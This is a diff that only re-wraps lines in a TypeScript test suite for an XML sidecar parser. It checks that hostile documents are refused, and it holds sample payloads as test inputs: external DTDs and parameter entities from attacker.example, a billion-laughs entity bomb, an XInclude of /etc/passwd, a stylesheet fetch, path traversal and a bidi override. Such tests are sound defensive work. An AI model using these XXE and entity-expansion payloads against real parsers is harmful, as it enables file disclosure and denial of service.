@@ -2,7 +2,8 @@ import { ValidationError } from '../../../lib/errors';
 import { parseSidecar, type SidecarParseOptions } from './parse';
 
 const NS = 'xmlns="urn:mxhub:sidecar:1"';
-const doc = (body: string, root = `<sidecar ${NS} version="1">`) => `<?xml version="1.0" encoding="UTF-8"?>\n${root}${body}</sidecar>`;
+const doc = (body: string, root = `<sidecar ${NS} version="1">`) =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n${root}${body}</sidecar>`;
 const minimal = '<title>Clip</title><materialId>M-1</materialId>';
 
 /** The rule a refused sidecar was refused under, or 'ok'. */
@@ -62,7 +63,9 @@ describe('parseSidecar: the agreed format', () => {
     expect(parseSidecar(doc(minimal))).toEqual({ title: 'Clip', materialId: 'M-1', destinations: [], extra: [] });
     expect(ruleOf(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(doc(minimal))]))).toBe('ok');
     expect(ruleOf(`<sidecar>${minimal}</sidecar>`)).toBe('ok');
-    expect(parseSidecar(doc('<title>x</title><programmeId>P1</programmeId><duration>90.5</duration>')).duration).toEqual({ kind: 'seconds', seconds: 90.5 });
+    expect(
+      parseSidecar(doc('<title>x</title><programmeId>P1</programmeId><duration>90.5</duration>')).duration,
+    ).toEqual({ kind: 'seconds', seconds: 90.5 });
   });
 });
 
@@ -75,12 +78,21 @@ describe('parseSidecar: hostile documents', () => {
   });
 
   it('refuses an external DTD and a parameter entity', () => {
-    expect(ruleOf(`<!DOCTYPE sidecar SYSTEM "http://attacker.example/x.dtd"><sidecar>${minimal}</sidecar>`)).toBe('sidecar.doctype');
-    expect(ruleOf(`<!DOCTYPE sidecar [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><sidecar>${minimal}</sidecar>`)).toBe('sidecar.doctype');
+    expect(ruleOf(`<!DOCTYPE sidecar SYSTEM "http://attacker.example/x.dtd"><sidecar>${minimal}</sidecar>`)).toBe(
+      'sidecar.doctype',
+    );
+    expect(
+      ruleOf(
+        `<!DOCTYPE sidecar [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><sidecar>${minimal}</sidecar>`,
+      ),
+    ).toBe('sidecar.doctype');
   });
 
   it('refuses billion laughs at once, without expanding anything', () => {
-    const entities = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)];
+    const entities = [
+      '<!ENTITY lol0 "lol">',
+      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
+    ];
     const bomb = `<?xml version="1.0"?><!DOCTYPE sidecar [${entities.join('')}]><sidecar><title>&lol9;</title><materialId>M</materialId></sidecar>`;
     const started = process.hrtime.bigint();
     const error = refusal(bomb);
@@ -90,11 +102,16 @@ describe('parseSidecar: hostile documents', () => {
   });
 
   it('refuses entity references other than the predefined ones, even without a DTD', () => {
-    expect(refusal(doc('<title>&xxe;</title><materialId>M</materialId>')).details).toEqual({ rule: 'sidecar.entity', element: 'title' });
+    expect(refusal(doc('<title>&xxe;</title><materialId>M</materialId>')).details).toEqual({
+      rule: 'sidecar.entity',
+      element: 'title',
+    });
   });
 
   it('refuses processing instructions other than the XML declaration', () => {
-    expect(ruleOf(`<?xml-stylesheet href="http://attacker.example/x.xsl"?><sidecar>${minimal}</sidecar>`)).toBe('sidecar.processing-instruction');
+    expect(ruleOf(`<?xml-stylesheet href="http://attacker.example/x.xsl"?><sidecar>${minimal}</sidecar>`)).toBe(
+      'sidecar.processing-instruction',
+    );
     expect(ruleOf(doc(`${minimal}<?php echo 1; ?>`))).toBe('sidecar.processing-instruction');
   });
 
@@ -110,7 +127,9 @@ describe('parseSidecar: hostile documents', () => {
   });
 
   it('refuses other encodings and malformed XML, with a position', () => {
-    expect(ruleOf(Buffer.from(doc('<title>caf\u00e9</title><materialId>M</materialId>'), 'latin1'))).toBe('sidecar.encoding');
+    expect(ruleOf(Buffer.from(doc('<title>caf\u00e9</title><materialId>M</materialId>'), 'latin1'))).toBe(
+      'sidecar.encoding',
+    );
     expect(ruleOf(`<?xml version="1.0" encoding="ISO-8859-1"?><sidecar>${minimal}</sidecar>`)).toBe('sidecar.encoding');
     expect(refusal(`<sidecar>${minimal}`).message).toMatch(/not well-formed XML \(line 1, column \d+\)/);
     expect(ruleOf(doc(`stray text${minimal}`))).toBe('sidecar.malformed');
@@ -122,8 +141,16 @@ describe('parseSidecar: structure and values', () => {
     ['another root element', `<asset ${NS}>${minimal}</asset>`, 'sidecar.root'],
     ['an unknown element', doc(`${minimal}<owner>x</owner>`), 'sidecar.unknown-element'],
     ['XInclude', doc(`${minimal}<xi:include href="file:///etc/passwd"/>`), 'sidecar.unknown-element'],
-    ['a child inside a value element', doc('<title><b>x</b></title><materialId>M</materialId>'), 'sidecar.unknown-element'],
-    ['an unknown attribute', doc(minimal, `<sidecar ${NS} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x">`), 'sidecar.unknown-attribute'],
+    [
+      'a child inside a value element',
+      doc('<title><b>x</b></title><materialId>M</materialId>'),
+      'sidecar.unknown-element',
+    ],
+    [
+      'an unknown attribute',
+      doc(minimal, `<sidecar ${NS} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x">`),
+      'sidecar.unknown-attribute',
+    ],
     ['another namespace', doc(minimal, '<sidecar xmlns="urn:other">'), 'sidecar.invalid-value'],
     ['another version', doc(minimal, `<sidecar ${NS} version="2">`), 'sidecar.invalid-value'],
     ['a repeated element', doc(`${minimal}<title>again</title>`), 'sidecar.duplicate-element'],
@@ -133,14 +160,30 @@ describe('parseSidecar: structure and values', () => {
     ['priority 0', doc(`${minimal}<priority>0</priority>`), 'sidecar.invalid-value'],
     ['priority 11', doc(`${minimal}<priority>11</priority>`), 'sidecar.invalid-value'],
     ['priority 5.5', doc(`${minimal}<priority>5.5</priority>`), 'sidecar.invalid-value'],
-    ['a checksum that is not SHA-256', doc(`${minimal}<checksum>${'a'.repeat(40)}</checksum>`), 'sidecar.invalid-value'],
+    [
+      'a checksum that is not SHA-256',
+      doc(`${minimal}<checksum>${'a'.repeat(40)}</checksum>`),
+      'sidecar.invalid-value',
+    ],
     ['a bad duration', doc(`${minimal}<duration>1:30</duration>`), 'sidecar.invalid-value'],
     ['a timecode with 61 seconds', doc(`${minimal}<duration>00:00:61:00</duration>`), 'sidecar.invalid-value'],
-    ['a destination that is not a network id', doc(`${minimal}<destinations><destination>../etc</destination></destinations>`), 'sidecar.invalid-value'],
-    ['a repeated extra key', doc(`${minimal}<extra><item key="a">1</item><item key="a">2</item></extra>`), 'sidecar.duplicate-element'],
+    [
+      'a destination that is not a network id',
+      doc(`${minimal}<destinations><destination>../etc</destination></destinations>`),
+      'sidecar.invalid-value',
+    ],
+    [
+      'a repeated extra key',
+      doc(`${minimal}<extra><item key="a">1</item><item key="a">2</item></extra>`),
+      'sidecar.duplicate-element',
+    ],
     ['an item without key', doc(`${minimal}<extra><item>1</item></extra>`), 'sidecar.invalid-value'],
     ['a control character', doc('<title>a\u0085b</title><materialId>M</materialId>'), 'sidecar.invalid-value'],
-    ['too many destinations', doc(`${minimal}<destinations>${'<destination>x</destination>'.repeat(33)}</destinations>`), 'sidecar.invalid-value'],
+    [
+      'too many destinations',
+      doc(`${minimal}<destinations>${'<destination>x</destination>'.repeat(33)}</destinations>`),
+      'sidecar.invalid-value',
+    ],
   ])('refuses %s', (_what, xml, rule) => {
     expect(ruleOf(xml)).toBe(rule);
   });
@@ -148,7 +191,11 @@ describe('parseSidecar: structure and values', () => {
   it('answers with a ValidationError naming element and rule, never the value', () => {
     const error = refusal(doc(`${minimal}<priority>SECRET-VALUE</priority>`));
     expect(error).toBeInstanceOf(ValidationError);
-    expect(error).toMatchObject({ code: 'MXHUB_ERR_VALIDATION', status: 400, details: { rule: 'sidecar.invalid-value', element: 'priority' } });
+    expect(error).toMatchObject({
+      code: 'MXHUB_ERR_VALIDATION',
+      status: 400,
+      details: { rule: 'sidecar.invalid-value', element: 'priority' },
+    });
     expect(error.message).toBe('sidecar <priority> must be a whole number from 1 to 10 (rule sidecar.invalid-value)');
     expect(refusal(doc(`${minimal}<\u202Eevil>x</\u202Eevil>`)).message).not.toContain('\u202E');
   });
